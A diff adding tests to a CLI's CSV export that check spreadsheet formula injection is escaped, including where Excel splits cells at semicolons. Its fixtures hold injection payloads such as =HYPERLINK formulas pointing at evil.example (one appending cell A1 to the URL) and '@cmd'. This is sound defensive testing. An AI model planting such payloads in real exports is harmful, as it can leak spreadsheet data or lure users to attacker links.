@@ -118,6 +118,29 @@ test('alerts list --csv: RFC 4180, and cells that a spreadsheet would run as for
   assert.equal(first.email, 'csv@acme-corp.io')
   assert.equal(byId.get(second)!.exposureId, '\'-42')
   assert.match(r.stdout, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Click""\)",/, 'quotes doubled inside a quoted cell')
+  assert.ok(r.stdout.split('\r\n').slice(0, -1).every(line => /^"([^"]|"")*"(,"([^"]|"")*")*$/.test(line)), 'every cell quoted, the header too')
+})
+
+test('alerts list --csv: each ;-separated part of a cell is guarded (Excel in de/fr/es/it/nl splits lines at ;)', async t => {
+  const bridge = await startTestBridge(t)
+  const id = (await postAlert(bridge.url, {
+    username: 'semi@acme-corp.io',
+    exposureID: 'a;=HYPERLINK("https://evil.example/reset","Reset");b',
+    customData: 'x; +SUM(1);@cmd;-2',
+    exposureDetails: { title: 'Forum;=1+1' }
+  })).body.alertId as string
+  const r = await cli(['alerts', 'list', '--csv'], { BRIDGE_DATABASE: bridge.config.database })
+  assert.equal(r.code, 0, r.stderr)
+  const rows = parseCsv(r.stdout)
+  const row = Object.fromEntries(rows[0]!.map((h, i) => [h, rows[1]![i]]))
+  assert.equal(row.id, id)
+  assert.equal(row.exposureId, 'a;\'=HYPERLINK("https://evil.example/reset","Reset");b')
+  assert.equal(row.customData, 'x;\' +SUM(1);\'@cmd;\'-2')
+  assert.equal(row.exposureTitle, 'Forum;\'=1+1')
+  // Read as Excel does where the list separator is ';' (quotes no help): no part starts a formula.
+  for (const line of r.stdout.split('\r\n')) {
+    for (const part of line.split(';')) assert.ok(!/^\s*[=+\-@]/.test(part), `a formula cell: ${part}`)
+  }
 })
 
 test('alerts purge: refuses under a day without --force and without --yes off a terminal; keeps tombstones and unfinished alerts', async t => {
